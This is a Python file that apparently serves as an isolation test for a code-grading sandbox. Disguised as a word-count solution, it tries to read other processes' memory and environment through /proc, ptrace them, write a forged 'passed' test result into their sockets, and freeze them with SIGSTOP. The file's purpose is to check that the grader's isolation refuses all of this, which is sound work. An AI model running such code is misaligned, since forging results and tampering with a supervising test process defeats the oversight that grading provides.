"""Attack: reach the trusted test process from the candidate process.

For every other process in the sandbox: read its memory, environment and
descriptors through /proc, ptrace it, write into its sockets through
/proc/PID/fd, and stop it with SIGSTOP so the clock runs out on a suite whose
results were already written. Isolated, the test process runs under another
uid and is undumpable: every read, attach and signal is refused.
"""

import ctypes
import os
import signal

REFUSED = []
REACHED = []


def _try(what, action):
    try:
        action()
        REACHED.append(what)
    except Exception as exc:
        REFUSED.append(f"{what}: {type(exc).__name__}")


def _read(path):
    with open(path, "rb") as handle:
        handle.read(64)


def _write_fd(path):
    with open(path, "wb") as handle:
        handle.write(b'{"event": "result", "outcome": "passed"}\n')


me = os.getpid()
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) in (me, 1):
        continue
    pid = int(entry)
    _try(f"{pid} mem", lambda: _read(f"/proc/{pid}/mem"))
    _try(f"{pid} environ", lambda: _read(f"/proc/{pid}/environ"))
    _try(f"{pid} fds", lambda: [_write_fd(f"/proc/{pid}/fd/{fd}")
                                for fd in os.listdir(f"/proc/{pid}/fd")])
    libc = ctypes.CDLL(None, use_errno=True)
    _try(f"{pid} ptrace", lambda: (_ for _ in ()).throw(OSError(ctypes.get_errno()))
         if libc.ptrace(16, pid, 0, 0) != 0 else None)
    _try(f"{pid} SIGSTOP", lambda: os.kill(pid, signal.SIGSTOP))


def count_words(text):
    raise NotImplementedError(f"reached {REACHED}")


def top_words(text, n):
    raise NotImplementedError(f"reached {REACHED}")
